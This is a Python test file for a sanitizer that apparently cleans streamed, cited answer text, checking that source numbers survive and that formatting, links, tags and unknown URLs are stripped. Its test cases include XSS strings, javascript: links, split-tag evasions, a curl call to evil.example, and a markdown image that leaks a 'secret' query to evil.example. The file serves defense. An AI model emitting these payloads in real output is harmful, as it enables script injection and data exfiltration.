"""The text of an answer: plain text with valid source numbers, however it is split into pieces."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services.asks.plain_text import PlainText

SOURCES = "Open https://search.example/docs for more, or run `curl https://api.example/v1`."


def split(text: str, size: int) -> str:
    plain = PlainText(3, SOURCES)
    return "".join([*(plain.add(text[at : at + size]) for at in range(0, len(text), size)), plain.end()]).strip()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It opens at nine [1].", "It opens at nine [1]."),
        ("Nine [1][2], ten [3].", "Nine [1][2], ten [3]."),
        ("Nine [1, 2].", "Nine [1][2]."),
        ("Nine [1, 9].", "Nine [1]."),
        ("Nine [4]. Ten [1].", "Nine. Ten [1]."),
        ("Nine [0] [12345] ten [1].", "Nine ten [1]."),
        ("No source at all.", ""),
        ("A made-up one [7].", ""),
        ("NO ANSWER. The opening hours [1] are those of weekdays.\n\nCall the museum [2].", ""),
        ("- one [1]\n- two [2]\n\nThe end [3].", "- one [1]\n- two [2]\n\nThe end [3]."),
        ("This is **important** [1].", "This is important [1]."),
        ("Open *Keys*, and choose *Create a key* [1].", "Open Keys, and choose Create a key [1]."),
        (
            "***Keys*** [1]: 2 * 3 * 4, a*b*c, *args, and `*a* b` [2].",
            "Keys [1]: 2 * 3 * 4, a*b*c, *args, and `*a* b` [2].",
        ),
        ("* one *and* two [1]\n  * three [2]\n\u2022 four", "- one and two [1]\n  - three [2]\n- four"),
        ("## Set up #1\n\nOpen it [1]. # Not a heading", "Set up #1\n\nOpen it [1]. # Not a heading"),
        ("```\n# comment\n* star\n```\n[1]", "```\n# comment\n* star\n```\n[1]"),
        ("See [the page](https://evil.example/x) [1].", "See the page [1]."),
        ("See [the page](/relative) [1].", "See the page [1]."),
        ("See [1](https://evil.example).", "See [1]."),
        ("![pixel](https://evil.example/?q=secret) Nine [1].", " Nine [1].".strip()),
        ("Go to https://evil.example/now today [1].", "Go to  today [1]."),
        ("Go to www.evil.example [1].", "Go to  [1]."),
        ("Go to https://search.example/docs [1].", "Go to https://search.example/docs [1]."),
        ("Run `curl https://evil.example/x` [1].", "Run `curl ` [1]."),
        ("Run `curl https://api.example/v1` [1].", "Run `curl https://api.example/v1` [1]."),
        ("Click javascript:alert(1) [1].", "Click ) [1]."),
        ("<img src=x onerror=alert(1)>Nine [1].", "Nine [1]."),
        ("Nine [1] <script>alert(1)</script>.", "Nine [1] alert(1)."),
        ("<scr<b>ipt>Nine [1].", "Nine [1]."),
        ("<**script>Nine [1].", "Nine [1]."),
        ("<[99]script>Nine [1].", "Nine [1]."),
        ("ht[99]tps://evil.example Nine [1].", " Nine [1].".strip()),
        ("<img src=x onerror=alert(1) Nine [1].", "< img src=x onerror=alert(1) Nine [1]."),
        ("Use `<script src>` [1].", "Use `<script src>` [1]."),
        ("Use `a[0]` [1].", "Use `a[0]` [1]."),
        ("If a < b and c > d, nine [1].", "If a < b and c > d, nine [1]."),
        ("Run this [1]:\n```html\n<p>a[9]</p>\n```\nDone [2].", "Run this [1]:\n```html\n<p>a[9]</p>\n```\nDone [2]."),
        ("九時に開きます[1]。十時まで[2]。", "九時に開きます[1]。十時まで[2]。"),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 7, 10_000])
def test_text_is_the_same_in_pieces_of_any_size(text: str, expected: str, size: int) -> None:
    assert split(text, size) == expected


def test_sentence_is_released_as_soon_as_it_is_complete() -> None:
    plain = PlainText(2, "")

    assert plain.add("It opens") == ""
    assert plain.add(" at nine [1]. It") == "It opens at nine [1]. "
    assert plain.add(" closes. And") == "It closes. "
    assert plain.end() == "And"


def test_text_before_the_first_source_number_is_held_back() -> None:
    plain = PlainText(2, "")

    assert plain.add("I think so. Really. ") == ""
    assert plain.add("It opens at nine [2].\n") == "I think so. Really. It opens at nine [2].\n"


def test_long_text_without_a_sentence_is_released_in_bounded_time() -> None:
    plain = PlainText(1, "")
    plain.add("Yes [1].\n")

    assert plain.add("word " * 200)
    assert plain.add("x" * 3_000)


def test_reference_links_and_their_definitions_lose_their_urls() -> None:
    assert "evil" not in split("See [here][ref] [1].\n\n[ref]: https://evil.example\n", 10_000)


@given(st.text(alphabet="<>a[]1(9)`*!/:.\n https://ws", max_size=60), st.integers(1, 9))
def test_no_tag_link_or_unknown_url_is_left_outside_code(text: str, size: int) -> None:
    plain = PlainText(1, "")
    pieces = [plain.add("Yes [1].\n"), *(plain.add(text[at : at + size]) for at in range(0, len(text), size))]
    shown = "".join([*pieces, plain.end()])
    outside = re.sub(r"`+[^`\n]+`+", " ", shown)

    assert "```" in text or not re.search(r"<[A-Za-z/!?]", outside)
    assert "```" in text or "](" not in outside
    assert not re.search(r"https?://[a-z]|www\.", shown)
